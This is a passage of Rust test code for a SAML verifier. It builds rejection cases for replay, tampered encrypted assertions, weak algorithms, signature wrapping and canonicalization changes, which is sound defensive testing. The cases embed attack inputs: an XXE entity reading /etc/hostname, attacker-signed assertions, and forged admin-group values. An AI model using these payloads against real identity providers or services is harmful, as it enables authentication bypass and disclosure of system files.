    // An unsigned Response may not turn an unsolicited assertion into a solicited one.
    let solicited_wrapper = rep(
        &unsolicited,
        "<samlp:Response ",
        "<samlp:Response InResponseTo=\"_req-fedbridge-0001\" ",
    );
    c.reject(
        W,
        "unsigned-response-adds-inresponseto",
        solicited_wrapper.clone(),
        R::InResponseToMismatch,
    );
    c.reject_in(
        W,
        "unsigned-response-adds-inresponseto-unsolicited-allowed",
        solicited_wrapper,
        c.env(|e| e.sp.allow_unsolicited = true),
        R::InResponseToMismatch,
    );
    let other_request = idp_signed(
        &rep(
            &a,
            "Recipient=\"https://sp.example.test/EnticeServices/rest/authenticate/saml\" InResponseTo=\"_req-fedbridge-0001\"",
            "Recipient=\"https://sp.example.test/EnticeServices/rest/authenticate/saml\" InResponseTo=\"_req-other\"",
        ),
        aid,
    );
    c.reject(
        W,
        "idp-signed-assertion-answers-other-request",
        other_request.clone(),
        R::InResponseToMismatch,
    );
    c.reject(
        W,
        "idp-signed-assertion-answers-unknown-request",
        rep(
            &other_request,
            " InResponseTo=\"_req-fedbridge-0001\">",
            ">",
        ),
        R::InResponseToUnknown,
    );
}

/// The same assertion twice with one ledger.
///
/// Note: the code records the assertion before it consumes the request, so a second use of a
/// solicited response is reported as `replay` (not `in_response_to_unknown`, which the
/// documented "InResponseTo -> replay" order would give for an already consumed request).
/// `replay` is what the attack is.
fn replay(c: &mut Corpus) {
    const W: &str = "replay";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let r = fixture_text("rsa-sha256-response.xml");
    let unsolicited = fixture_text("rsa-sha256-unsolicited.xml");
    let enc = fixture_text("enc-aes128gcm-both.xml");
    let twice = |c: &Corpus, first: &str| c.env(|e| e.prior = vec![first.as_bytes().to_vec()]);
    c.reject_in(
        W,
        "same-response-twice-A",
        a.clone(),
        twice(c, &a),
        R::Replay,
    );
    c.reject_in(
        W,
        "same-response-twice-R",
        r.clone(),
        twice(c, &r),
        R::Replay,
    );
    c.reject_in(
        W,
        "same-response-twice-encrypted",
        enc.clone(),
        twice(c, &enc),
        R::Replay,
    );
    let env = c.env(|e| {
        e.sp.allow_unsolicited = true;
        e.prior = vec![unsolicited.as_bytes().to_vec()];
    });
    c.reject_in(
        W,
        "same-unsolicited-twice",
        unsolicited.clone(),
        env,
        R::Replay,
    );
    // The same signed assertion in a new Response (new ID, Issuer dropped).
    let rewrapped = rep(
        &rep(
            &a,
            "ID=\"_resp-rsa-sha256-assertion\"",
            "ID=\"_resp-fresh\"",
        ),
        "<saml:Issuer>https://idp.example.test/metadata</saml:Issuer><samlp:Status>",
        "<samlp:Status>",
    );
    c.reject_in(
        W,
        "same-assertion-new-response",
        rewrapped,
        twice(c, &a),
        R::Replay,
    );
    // Replayed later, still inside the validity window.
    let later = c.env(|e| {
        e.prior = vec![a.as_bytes().to_vec()];
        e.now = at(NOT_ON_OR_AFTER_PLUS_SKEW_MINUS_1);
    });
    c.reject_in(
        W,
        "same-response-at-end-of-window",
        a.clone(),
        later,
        R::Replay,
    );
}

/// Encrypted assertions: every decryption failure is the one `decryption_failed`; refused
/// algorithms have their own codes; decryption is never a substitute for a signature.
fn encrypted(c: &mut Corpus) {
    const W: &str = "encrypted";
    let cbc = fixture_text("enc-aes128cbc-assertion-signed.xml");
    let gcm = fixture_text("enc-aes256gcm-assertion-signed.xml");
    let cbc_resp_signed = fixture_text("enc-aes256cbc-response-signed.xml");
    let data = "<xenc:EncryptedData ";
    let key = "<xenc:EncryptedKey>";
    // The content CipherValue follows the EncryptedKey; the key's CipherValue is inside it.
    let content = "</xenc:EncryptedKey>";
    let data_value = |doc: &str, f: &dyn Fn(&mut Vec<u8>)| {
        edit_text(doc, content, "xenc:CipherValue", |t| tamper_b64(t, f))
    };
    let key_value = |doc: &str, f: &dyn Fn(&mut Vec<u8>)| {
        edit_text(doc, key, "xenc:CipherValue", |t| tamper_b64(t, f))
    };

    // CBC: IV (16) || ciphertext. Tampering garbles the plaintext or its padding; either way
    // the one uniform reason (no padding or format oracle).
    c.reject(
        W,
        "cbc-middle-block-flipped",
        data_value(&cbc, &|v| {
            let m = v.len() / 2;
            v[m] ^= 0x01
        }),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-last-block-flipped",
        data_value(&cbc, &|v| {
            let m = v.len() - 3;
            v[m] ^= 0x55
        }),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-first-block-flipped",
        data_value(&cbc, &|v| v[20] ^= 0x80),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-iv-first-byte-flipped",
        data_value(&cbc, &|v| v[0] ^= 0x80),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-last-block-dropped",
        data_value(&cbc, &|v| v.truncate(v.len() - 16)),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-truncated-not-block-multiple",
        data_value(&cbc, &|v| v.truncate(v.len() - 5)),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-truncated-to-iv",
        data_value(&cbc, &|v| v.truncate(16)),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-ciphervalue-empty",
        edit_text(&cbc, content, "xenc:CipherValue", |_| String::new()),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-ciphervalue-not-base64",
        edit_text(&cbc, content, "xenc:CipherValue", |_| "%%%".into()),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-ciphervalue-base64-cut",
        edit_text(&cbc, content, "xenc:CipherValue", |t| {
            t.trim_end()[..t.trim_end().len() - 3].to_string()
        }),
        R::DecryptionFailed,
    );
    // GCM: IV (12) || ciphertext || tag (16).
    c.reject(
        W,
        "gcm-ciphertext-flipped",
        data_value(&gcm, &|v| {
            let m = v.len() / 2;
            v[m] ^= 0x01
        }),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "gcm-tag-flipped",
        data_value(&gcm, &|v| {
            let m = v.len() - 1;
            v[m] ^= 0x01
        }),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "gcm-iv-flipped",
        data_value(&gcm, &|v| v[0] ^= 0x01),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "gcm-tag-dropped",
        data_value(&gcm, &|v| v.truncate(v.len() - 16)),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "gcm-truncated-short",
        data_value(&gcm, &|v| v.truncate(20)),
        R::DecryptionFailed,
    );
    // The wrapped session key.
    c.reject(
        W,
        "encrypted-key-flipped",
        key_value(&cbc, &|v| v[100] ^= 0x01),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "encrypted-key-truncated",
        key_value(&cbc, &|v| v.truncate(128)),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "encrypted-key-removed",
        remove_el(&cbc, "<ds:KeyInfo>", "</ds:KeyInfo>"),
        R::DecryptionFailed,
    );
    // Key length that does not fit the declared algorithm.
    c.reject(
        W,
        "cbc-declared-aes256",
        rep(&cbc, "xmlenc#aes128-cbc", "xmlenc#aes256-cbc"),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "gcm-declared-aes128",
        rep(&gcm, "xmlenc11#aes256-gcm", "xmlenc11#aes128-gcm"),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "cbc-declared-gcm",
        rep(
            &cbc,
            "http://www.w3.org/2001/04/xmlenc#aes128-cbc",
            "http://www.w3.org/2009/xmlenc11#aes128-gcm",
        ),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "gcm-declared-cbc",
        rep(
            &gcm,
            "http://www.w3.org/2009/xmlenc11#aes256-gcm",
            "http://www.w3.org/2001/04/xmlenc#aes256-cbc",
        ),
        R::DecryptionFailed,
    );
    // Wrong or missing SP key.
    let wrong_key = c.env(|e| {
        e.sp.decryption_keys = vec![
            DecryptionKey::from_pem(&read(xmlsec_dir().join("keys/attacker-rsa.key"))).unwrap(),
        ]
    });
    c.reject_in(
        W,
        "wrong-sp-key-cbc",
        cbc.clone(),
        wrong_key.clone(),
        R::DecryptionFailed,
    );
    c.reject_in(
        W,
        "wrong-sp-key-gcm",
        gcm.clone(),
        wrong_key,
        R::DecryptionFailed,
    );
    c.reject_in(
        W,
        "no-sp-key",
        cbc.clone(),
        c.env(|e| e.sp.decryption_keys.clear()),
        R::DecryptionFailed,
    );
    // Refused algorithms.
    c.reject(
        W,
        "rsa-1_5-fixture",
        fixture_text("enc-rsa15-assertion-signed.xml"),
        R::KeyTransportNotAllowed,
    );
    c.reject(
        W,
        "rsa-1_5-declared",
        rep(&cbc, "xmlenc#rsa-oaep-mgf1p", "xmlenc#rsa-1_5"),
        R::KeyTransportNotAllowed,
    );
    c.reject(
        W,
        "3des-declared",
        rep(&cbc, "xmlenc#aes128-cbc", "xmlenc#tripledes-cbc"),
        R::AlgorithmNotAllowed,
    );
    c.reject(
        W,
        "content-algorithm-unknown",
        rep(&cbc, "xmlenc#aes128-cbc", "xmlenc#evil"),
        R::AlgorithmNotAllowed,
    );
    c.reject(
        W,
        "key-wrap-instead-of-rsa",
        rep(&cbc, "xmlenc#rsa-oaep-mgf1p", "xmlenc#kw-aes128"),
        R::AlgorithmNotAllowed,
    );
    c.reject(W, "oaep-digest-md5", rep(&cbc, "<ds:DigestMethod Algorithm=\"http://www.w3.org/2000/09/xmldsig#sha1\"/></xenc:EncryptionMethod>", "<ds:DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmldsig-more#md5\"/></xenc:EncryptionMethod>"), R::AlgorithmNotAllowed);
    // Structure.
    c.reject(
        W,
        "encrypted-data-removed",
        remove_el(&cbc, data, "</xenc:EncryptedData>"),
        R::SchemaViolation,
    );
    let ed = {
        let start = cbc.find(data).unwrap();
        let end = cbc.find("</xenc:EncryptedData>").unwrap() + "</xenc:EncryptedData>".len();
        cbc[start..end].to_string()
    };
    c.reject(
        W,
        "encrypted-data-twice",
        rep(&cbc, &ed, &format!("{ed}{ed}")),
        R::SchemaViolation,
    );
    // Under a Response signature, tampering breaks that signature first.
    c.reject(
        W,
        "response-signed-ciphertext-flipped",
        data_value(&cbc_resp_signed, &|v| {
            let m = v.len() / 2;
            v[m] ^= 0x01
        }),
        R::DigestMismatch,
    );

    // Assertions the attacker encrypts to the SP's public certificate (anyone can).
    let a = Fx::load("rsa-sha256-assertion.xml");
    let r = Fx::load("rsa-sha256-response.xml");
    let signed = standalone(&a.assertion);
    let unsigned = standalone(&a.assertion_with(&a.assert_id, None, true, ""));
    // Controls: the test's encryption is sound (the IdP-signed assertion decrypts and verifies).
    c.accept(
        W,
        "control-test-encrypted-signed-assertion-cbc",
        a.with_assertion(&encrypt_to_sp(signed.as_bytes(), false)),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.accept(
        W,
        "control-test-encrypted-signed-assertion-gcm",
        a.with_assertion(&encrypt_to_sp(signed.as_bytes(), true)),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.reject(
        W,
        // AES-CBC inside an unsigned Response: everything about the plaintext is the one
        // uniform decryption_failed (no format oracle; xmlenc::Decrypted::authenticated).
        "unsigned-assertion-encrypted-cbc-unsigned-response",
        a.with_assertion(&encrypt_to_sp(unsigned.as_bytes(), false)),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "unsigned-assertion-encrypted-gcm-unsigned-response",
        a.with_assertion(&encrypt_to_sp(unsigned.as_bytes(), true)),
        R::SignatureMissing,
    );
    c.reject(
        W,
        "unsigned-evil-assertion-encrypted-into-signed-response",
        r.with_assertion(&encrypt_to_sp(unsigned.as_bytes(), false)),
        R::DigestMismatch,
    );
    let tampered_signed = rep(&signed, ">alice@example.test<", &format!(">{EVIL_NAME}<"));
    c.reject(
        W,
        "signed-assertion-changed-then-encrypted",
        a.with_assertion(&encrypt_to_sp(tampered_signed.as_bytes(), true)),
        R::DigestMismatch,
    );
    let attacker = private_key("attacker-rsa");
    let attacker_signed = {
        let doc = resign(
            &a.with_assertion(&tampered_signed),
            &a.assert_id,
            &KeyKind::Rsa(&attacker, MessageDigest::sha256()),
        );
        let start = doc.find("<saml:Assertion ").unwrap();
        let end = doc.find("</saml:Assertion>").unwrap() + "</saml:Assertion>".len();
        doc[start..end].to_string()
    };
    c.reject(
        W,
        // AES-CBC inside an unsigned Response: everything about the plaintext is the one
        // uniform decryption_failed (no format oracle; xmlenc::Decrypted::authenticated).
        "attacker-signed-assertion-encrypted",
        a.with_assertion(&encrypt_to_sp(attacker_signed.as_bytes(), false)),
        R::DecryptionFailed,
    );
    // Plaintexts that are not one saml:Assertion.
    c.reject(
        W,
        // The plaintext must be exactly one element; anything else is the uniform failure.
        "plaintext-two-assertions",
        a.with_assertion(&encrypt_to_sp(
            format!("{signed}{unsigned}").as_bytes(),
            true,
        )),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "plaintext-a-response",
        a.with_assertion(&encrypt_to_sp(body(&a.xml()).as_bytes(), true)),
        R::SchemaViolation,
    );
    // A second assertion inside the decrypted one. The one-assertion check runs before
    // decryption (on the outer document); on the decrypted assertion the next check is its
    // signature, whose digest covers the inserted element.
    let nested = standalone(&a.assertion_with(EVIL_ID, None, true, ""));
    c.reject(
        W,
        "plaintext-nested-assertion",
        a.with_assertion(&encrypt_to_sp(
            rep(
                &signed,
                "</saml:Subject>",
                &format!("{nested}</saml:Subject>"),
            )
            .as_bytes(),
            true,
        )),
        R::DigestMismatch,
    );
    // Plaintext that is not XML: indistinguishable from a garbled CBC decryption, so the
    // uniform reason.
    c.reject(
        W,
        "plaintext-not-xml",
        a.with_assertion(&encrypt_to_sp(b"\x01\x02 not xml <<<", false)),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "plaintext-truncated-xml",
        a.with_assertion(&encrypt_to_sp(&signed.as_bytes()[..signed.len() / 2], true)),
        R::DecryptionFailed,
    );
    // A DTD inside the plaintext: refused by the same hardened parser, nothing is loaded, and,
    // like every failure after the algorithm checks (xmlenc.rs), with the uniform reason.
    let xxe = format!(
        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>{}",
        rep(&unsigned, ">admin@example.test<", ">&xxe;<")
    );
    c.reject(
        W,
        "plaintext-with-doctype",
        a.with_assertion(&encrypt_to_sp(xxe.as_bytes(), false)),
        R::DecryptionFailed,
    );
    c.reject(
        W,
        "plaintext-with-doctype-utf16",
        a.with_assertion(&encrypt_to_sp(
            &utf16le(&format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{xxe}")),
            false,
        )),
        R::DecryptionFailed,
    );
    // IDs stay unique across the decrypted assertion and the Response that carries it.
    let same_id_as_response = a.response(
        &a.resp_open_with_id(&a.assert_id),
        &[
            &a.resp_issuer,
            &a.status,
            &encrypt_to_sp(signed.as_bytes(), true),
        ],
    );
    c.reject(
        W,
        "decrypted-assertion-id-equals-response-id",
        same_id_as_response,
        R::DuplicateId,
    );
}

// ---------------------------------------------------------------------------------------------
// The cross-check with xmlsec1 itself
// ---------------------------------------------------------------------------------------------

/// Signs the assertion of `xml` (whose Signature template is emptied first) with xmlsec1 and
/// the IdP test key. `None` when xmlsec1 is not installed.
fn xmlsec1_sign_assertion(xml: &str) -> Option<String> {
    let template = edit_text(
        &edit_text(
            &edit_text(xml, "<ds:Signature", "ds:DigestValue", |_| String::new()),
            "<ds:Signature",
            "ds:SignatureValue",
            |_| String::new(),
        ),
        "<ds:Signature",
        "ds:X509Certificate",
        |_| String::new(),
    );
    crate::idp_signer::xmlsec1_sign(&template)
}

/// A NameID and an attribute value signed by xmlsec1 with a comment and a PI inside are read
/// as their full text; cutting the signed text after the comment breaks the digest.
#[test]
fn xmlsec1_signed_comment_in_values_is_read_in_full() {
    let a = fixture_text("rsa-sha256-assertion.xml");
    let xml = rep(
        &rep(
            &a,
            ">alice@example.test</saml:NameID>",
            ">alice@example.test<!--x-->.evil.test</saml:NameID>",
        ),
        ">admins</saml:AttributeValue>",
        ">adm<?pi?>ins<!---->.evil</saml:AttributeValue>",
    );
    if !crate::idp_signer::xmlsec1_installed("xmlsec1_signed_comment_in_values_is_read_in_full") {
        return;
    }
    let signed = xmlsec1_sign_assertion(&xml).expect("xmlsec1 is installed");
    let verified = check_xmlsec(signed.as_bytes())
        .unwrap_or_else(|r| panic!("xmlsec1-signed comment case rejected: {r}"));
    assert_eq!(verified.name_id(), Some("alice@example.test.evil.test"));
    let groups = verified
        .attributes()
        .iter()
        .find(|a| a.name == "groups")
        .unwrap();
    assert_eq!(groups.values, ["users", "admins.evil"]);
    let cut = rep(
        &signed,
        "<!--x-->.evil.test</saml:NameID>",
        "<!--x--></saml:NameID>",
    );
    assert_eq!(
        check_xmlsec(cut.as_bytes()).unwrap_err().reason,
        R::DigestMismatch
    );
}

/// The Rust-side signer agrees with xmlsec1 (so the re-signed cases test what they claim).
#[test]
fn test_signer_matches_xmlsec1() {
    fn values(s: &str) -> (String, String) {
        let text = |tag: &str| {
            let start = s.find(&format!("<ds:{tag}>")).unwrap();
            let end = s.find(&format!("</ds:{tag}>")).unwrap();
            s[start..end]
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>()
        };
        (text("DigestValue"), text("SignatureValue"))
    }
    let a = fixture_text("rsa-sha256-assertion.xml");
    let id = "_assert-rsa-sha256-assertion";
    assert_eq!(
        values(&idp_signed(&a, id)),
        values(&a),
        "re-signing the unchanged fixture must reproduce xmlsec1's values"
    );
    let changed = rep(
        &a,
        ">alice</saml:AttributeValue>",
        ">alice<!--c-->2<?p?></saml:AttributeValue>",
    );
    if crate::idp_signer::xmlsec1_installed("test_signer_matches_xmlsec1 (its xmlsec1 half)") {
        let by_xmlsec1 = xmlsec1_sign_assertion(&changed).expect("xmlsec1 is installed");
        assert_eq!(values(&idp_signed(&changed, id)), values(&by_xmlsec1));
    }
}

// ---------------------------------------------------------------------------------------------
// Inclusive canonicalization (issue 12)
// ---------------------------------------------------------------------------------------------

fn inclusive_fixture_text(name: &str) -> String {
    String::from_utf8(read(
        repo()
            .join("tests/fixtures/xmlsec-inclusive/signed")
            .join(name),
    ))
    .unwrap()
}

/// Signatures made by xmlsec1 with Canonical XML 1.0 / 1.1 (`tests/fixtures/xmlsec-inclusive`).
/// Inclusive C14N makes the digest depend on the context of the signed element (every
/// namespace in scope; C14N 1.0 also the ancestors' `xml:` attributes), so every change of
/// that context is a refusal; the wrapping attacks fail as they do against exclusive
/// signatures, because the verified element is the element read. Comments are outside the
/// signature without `#WithComments` and never truncate a value.
fn inclusive_canonicalization(c: &mut Corpus) {
    const K: &str = "inclusive-c14n";
    let a = Fx::parse(
        "c14n10-assertion",
        &inclusive_fixture_text("c14n10-assertion.xml"),
    );
    let a11 = Fx::parse(
        "c14n11-assertion",
        &inclusive_fixture_text("c14n11-assertion.xml"),
    );
    let r = Fx::parse(
        "c14n10-response",
        &inclusive_fixture_text("c14n10-response.xml"),
    );
    for (label, fx, kind) in [("A10", &a, 'A'), ("A11", &a11, 'A'), ("R10", &r, 'R')] {
        for n in 1..=8u8 {
            let expected = match (kind, n) {
                ('R', 1) => R::SignatureMalformed,
                ('R', 2) => R::ReferenceInvalid,
                ('R', 5 | 6 | 8) => R::MultipleAssertions,
                ('R', _) => R::DigestMismatch,
                _ => R::MultipleAssertions,
            };
            c.reject(
                K,
                format!("inclusive-xsw{n}-{label}"),
                xsw(fx, n, false),
                expected,
            );
        }
    }
    for (label, fx) in [("A10", &a), ("A11", &a11)] {
        let xml = fx.xml();
        let ext = "xmlns:ext=\"urn:example:extension\"";
        // The Response is not signed: an attacker may change it, which breaks the assertion.
        c.reject(
            K,
            format!("{label}-response-namespace-changed"),
            rep(&xml, ext, "xmlns:ext=\"urn:example:other\""),
            R::DigestMismatch,
        );
        c.reject(
            K,
            format!("{label}-response-namespace-removed"),
            rep(&xml, &format!(" {ext}"), ""),
            R::DigestMismatch,
        );
        c.reject(
            K,
            format!("{label}-response-namespace-added"),
            rep(&xml, ext, &format!("{ext} xmlns:evil=\"urn:evil\"")),
            R::DigestMismatch,
        );
        c.reject(
            K,
            format!("{label}-response-default-namespace-added"),
            rep(&xml, ext, &format!("{ext} xmlns=\"urn:evil\"")),
            R::DigestMismatch,
        );
        // xml:lang is inherited by both 1.0 and 1.1.
        c.reject(
            K,
            format!("{label}-response-xml-lang-added"),
            rep(&xml, ext, &format!("{ext} xml:lang=\"en\"")),
            R::DigestMismatch,
        );
        // The signed assertion moved into another Response (one without the extra namespace,
        // as an attacker's own template would be).
        let moved = format!(
            "{DECL}<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\" xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" ID=\"{EVIL_RESP_ID}\" Version=\"2.0\" IssueInstant=\"2026-01-15T10:00:00Z\" Destination=\"{}\" InResponseTo=\"{}\">{}{}{}</samlp:Response>",
            xmlsec::ACS,
            xmlsec::REQUEST_ID,
            fx.resp_issuer,
            fx.status,
            fx.assertion
        );
        c.reject(
            K,
            format!("{label}-assertion-moved-to-another-response"),
            moved,
            R::DigestMismatch,
        );
        c.reject(
            K,
            format!("{label}-nameid-changed"),
            rep(&xml, ">alice@example.test<", &format!(">{EVIL_NAME}<")),
            R::DigestMismatch,
        );
        c.reject(
            K,
            format!("{label}-group-added"),
            rep(
                &xml,
                "admins</saml:AttributeValue>",
                "admins</saml:AttributeValue><saml:AttributeValue>Domain Admins</saml:AttributeValue>",
            ),
            R::DigestMismatch,
        );
        // A comment is not part of the canonical form (no #WithComments): the signature holds
        // and the value is read in full, never truncated at the comment.
        c.accept(
            K,
            format!("{label}-comment-in-nameid-read-in-full"),
            rep(
                &xml,
                ">alice@example.test<",
                ">alice@example<!-- .evil -->.test<",
            ),
            c.base.clone(),
            xmlsec::NAME_ID,
        );
        c.accept(
            K,
            format!("{label}-as-signed"),
            xml,
            c.base.clone(),
            xmlsec::NAME_ID,
        );
    }
    // With #WithComments the comments are signed: adding one breaks the digest.
    let comments = inclusive_fixture_text("c14n10-comments-assertion.xml");
    c.reject(
        K,
        "c14n10-with-comments-comment-added",
        rep(
            &comments,
            ">alice@example.test<",
            ">alice@example<!-- x -->.test<",
        ),
        R::DigestMismatch,
    );
    // PrefixList is exclusive C14N's parameter: refused inside an inclusive method.
    let with_prefix_list = rep(
        &a.xml(),
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"/>",
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"><ec:InclusiveNamespaces xmlns:ec=\"http://www.w3.org/2001/10/xml-exc-c14n#\" PrefixList=\"xs\"/></ds:Transform>",
    );
    c.reject(
        K,
        "inclusive-transform-with-prefix-list",
        with_prefix_list,
        R::SignatureMalformed,
    );
    // An inclusive transform after the exclusive one: a second C14N transform.
    c.reject(
        K,
        "inclusive-transform-twice",
        rep(
            &a.xml(),
            "<ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"/>",
            "<ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"/><ds:Transform Algorithm=\"http://www.w3.org/2006/12/xml-c14n11\"/>",
        ),
        R::TransformNotAllowed,
    );
    // The inclusive signature of an assertion re-declared as exclusive: another digest.
    c.reject(
        K,
        "inclusive-signature-relabelled-exclusive",
        rep(
            &a.xml(),
            "<ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"/>",
            EXC_T,
        ),
        R::DigestMismatch,
    );
}
